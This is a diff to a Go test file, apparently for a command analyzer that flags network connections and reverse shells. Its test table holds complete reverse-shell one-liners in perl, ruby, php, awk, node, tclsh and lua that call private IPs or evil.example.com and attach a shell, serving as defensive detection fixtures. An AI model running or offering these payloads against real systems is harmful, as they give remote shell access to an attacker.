@@ -991,15 +991,21 @@ func TestDeferredAndWrappedShells(t *testing.T) {
 }
 
 func TestInterpreterReverseShells(t *testing.T) {
+	// The connections are the registry's effConnect APIs; a shell or a
+	// command the code cannot know run beside one attaches it.
 	cases := []struct {
 		src, via, host string
 		port           int
 	}{
-		{`perl -e 'use Socket;$i="10.0.0.1";$p=1234;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");exec("/bin/sh -i");};'`, "perl", "10.0.0.1", 0},
-		{`perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,"10.0.0.2:4242");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'`, "perl", "10.0.0.2", 4242},
-		{`ruby -rsocket -e 'f=TCPSocket.open("10.0.0.1",1234).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'`, "ruby", "10.0.0.1", 1234},
-		{`php -r '$sock=fsockopen("evil.example.com",4242);exec("/bin/sh -i <&3 >&3 2>&3");'`, "php", "evil.example.com", 4242},
-		{`awk 'BEGIN {s = "/inet/tcp/0/10.0.0.1/4242"; while(42) { s |& getline c; while ((c |& getline) > 0) print $0 |& s }}' /dev/null`, "awk", "10.0.0.1", 4242},
+		{`perl -e 'use Socket;$i="10.0.0.1";$p=1234;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");exec("/bin/sh -i");};'`, "perl connect", "10.0.0.1", 1234},
+		{`perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,"10.0.0.2:4242");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'`, "perl IO::Socket::INET", "10.0.0.2", 4242},
+		{`perl -MIO::Socket -e '$h="10.0.0.3";$s=IO::Socket::INET->new(PeerAddr=>$h,PeerPort=>4444);open(STDIN,"<&",$s);exec("/bin/bash -i")'`, "perl IO::Socket::INET->new", "10.0.0.3", 4444},
+		{`ruby -rsocket -e 'f=TCPSocket.open("10.0.0.1",1234).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'`, "ruby TCPSocket.open", "10.0.0.1", 1234},
+		{`php -r '$sock=fsockopen("evil.example.com",4242);exec("/bin/sh -i <&3 >&3 2>&3");'`, "php fsockopen", "evil.example.com", 4242},
+		{`awk 'BEGIN {s = "/inet/tcp/0/10.0.0.1/4242"; while(42) { s |& getline c; while ((c |& getline) > 0) print $0 |& s }}' /dev/null`, "awk |&", "10.0.0.1", 4242},
+		{`node -e "var n=require('net'),c=require('child_process'),s=new n.Socket();s.connect(4444,'10.0.0.4',function(){var sh=c.spawn('/bin/sh',[]);s.pipe(sh.stdin);sh.stdout.pipe(s)})"`, "node Socket.connect", "10.0.0.4", 4444},
+		{"tclsh <<'EOF'\nset s [socket 10.0.0.6 4444]\ngets $s c\nset e \"exec $c\"\nputs $s [eval $e]\nEOF", "tclsh socket", "10.0.0.6", 4444},
+		{`lua -e "local s=require('socket');local t=s.tcp();t:connect('10.0.0.5',4444);local r=t:receive();local f=io.popen(r,'r')"`, "lua connect", "10.0.0.5", 4444},
 	}
 	for _, tc := range cases {
 		f := run(t, tc.src)
@@ -1008,8 +1014,20 @@ func TestInterpreterReverseShells(t *testing.T) {
 			t.Errorf("%q: network %s", tc.src, dump(f))
 		}
 	}
-	if f := run(t, `perl -e 'print "hello.world"'`); len(f.Network) != 0 {
-		t.Errorf("perl print: %s", dump(f))
+	// A connection alone is not a shell; a path or a word that only looks
+	// like one is no connection.
+	if f := run(t, `gawk 'BEGIN{print "GET /" |& "/inet/tcp/0/example.org/80"}'`); len(f.Network) != 1 ||
+		f.Network[0].Host != "example.org" || f.Network[0].Port != 80 || f.Network[0].ExecShell {
+		t.Errorf("gawk client: %s", dump(f))
+	}
+	if f := run(t, `perl -MIO::Socket -e 'IO::Socket::INET->new(Listen => 1, LocalPort => 9009)'`); len(f.Network) != 1 || !f.Network[0].Listen {
+		t.Errorf("perl server is one listener, no connection: %s", dump(f))
+	}
+	for _, src := range []string{`perl -e 'print "hello.world"'`, `awk 'BEGIN{print "/inet/tcp/0/host/80 is a path"}'`,
+		`perl -MSocket -e 'print inet_ntoa(inet_aton("127.0.0.1"))'`, `ruby -e 'puts "TCPSocket.new(\"10.0.0.1\", 1)"'`} {
+		if f := run(t, src); len(f.Network) != 0 {
+			t.Errorf("%s: %s", src, dump(f))
+		}
 	}
 }
 
